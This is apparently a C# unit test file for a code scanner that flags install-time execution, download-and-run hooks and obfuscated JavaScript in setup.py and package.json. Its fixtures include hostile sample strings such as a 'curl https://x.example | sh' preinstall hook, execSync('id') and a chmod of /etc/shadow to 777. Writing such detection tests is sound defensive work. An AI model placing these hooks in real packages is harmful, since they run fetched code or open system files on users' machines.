namespace Symbiont.Scanning.Tests.Code;

public sealed class InstallationTests
{
    [Theory]
    [InlineData("setup.py", "from setuptools import setup\nimport requests\nrequests.post('https://x.example')\nsetup()\n", "code-install-time-execution", Severity.High)]
    [InlineData("a/setup.py", "import os\nfrom setuptools.command.install import install\nclass Do(install):\n    def run(self):\n        os.system('make x')\n", "code-install-time-execution", Severity.High)]
    [InlineData("setup.py", "import subprocess\nv = subprocess.check_output(['git', 'describe'])\n", "code-install-time-execution", Severity.Medium)]
    [InlineData("package.json", "{\"scripts\": {\"postinstall\": \"node -e \\\"require('x')\\\"\"}}", "code-install-time-execution", Severity.High)]
    [InlineData("package.json", "{\n\"scripts\": {\n\"preinstall\": \"curl https://x.example | sh\"}}", "code-download-and-run", Severity.Critical)]
    [InlineData("a/package.json", "{\"scripts\": {\"postinstall\": \"husky install\"}}", "code-install-time-execution", Severity.Low)]
    [InlineData("package.json", "{\"scripts\": {\"postinstall\": \"node -e \\\"try { require('fs').chmodSync('./dist/index.js', '755') } catch (e) {}\\\"\"}}", "code-install-time-execution", Severity.Low)]
    [InlineData("package.json", "{\"scripts\": {\"postinstall\": \"node -e \\\"try{require('./postinstall')}catch(e){}\\\"\"}}", "code-install-time-execution", Severity.Low)]
    [InlineData("package.json", "{\"scripts\": {\"postinstall\": \"node -e \\\"require('child_process').execSync('id')\\\"\"}}", "code-install-time-execution", Severity.High)]
    [InlineData("package.json", "{\"scripts\": {\"postinstall\": \"node -e \\\"require('fs').chmodSync('./a.js', '755');require('http').get('//x')\\\"\"}}", "code-install-time-execution", Severity.High)]
    [InlineData("package.json", "{\"scripts\": {\"postinstall\": \"node -e \\\"require('fs').chmodSync('/etc/shadow', '777')\\\"\"}}", "code-install-time-execution", Severity.High)]
    [InlineData("package.json", "{\"scripts\": {\"postinstall\": \"node -e \\\"0,';'+eval('x')\\\"\"}}", "code-install-time-execution", Severity.High)]
    [InlineData("package.json", "{\"scripts\": {\"postinstall\": \"node -e \\\"require('./a')\\\" && node -e \\\"require('x').y()\\\"\"}}", "code-install-time-execution", Severity.High)]
    public void What_runs_at_installation_is_found(string file, string text, string rule, Severity severity) => CodeScan.Finds(file, text, rule, severity);

    [Theory]
    [InlineData("setup.py", "from setuptools import setup\nexec(open('version.py').read())\nsetup(name='x')\n")]
    [InlineData("tool.py", "import requests\nrequests.get('https://x.example')\n")]
    [InlineData("package.json", "{\"scripts\": {\"build\": \"curl https://x.example | sh\"}}")]
    [InlineData("package.json", "{\"scripts\": [], nonsense")]
    public void What_does_not_run_then_is_not(string file, string text) =>
        Assert.DoesNotContain(CodeScan.Of(file, text), finding => finding.Rule == "code-install-time-execution" || finding.Severity >= Severity.High);

    [Theory]
    [InlineData("var _0x1a2b = ['a'];", 20)]
    [InlineData("x(_0xabcdef);", 20)]
    [InlineData("[][(![]+[])[+[]]];", 100)]
    public void Marks_of_obfuscators_are_found(string piece, int count) =>
        CodeScan.Finds("x.js", string.Concat(Enumerable.Repeat(piece, count)).Replace(";[", "+[", StringComparison.Ordinal), "code-obfuscated-source", Severity.High);

    [Fact]
    public void A_long_string_of_escapes_is_found() => CodeScan.Finds("x.js", $"var s = '{string.Concat(Enumerable.Repeat("\\x61", 100))}';", "code-obfuscated-source", Severity.High);

    [Fact]
    public void Minified_code_is_not_obfuscated() =>
        CodeScan.Passes("x.min.js", string.Concat(Enumerable.Range(0, 2000).Select(i => $"function a{i}(e,t){{return e?t[e]||(t[e]=e.b(t)):!1}}")));
}
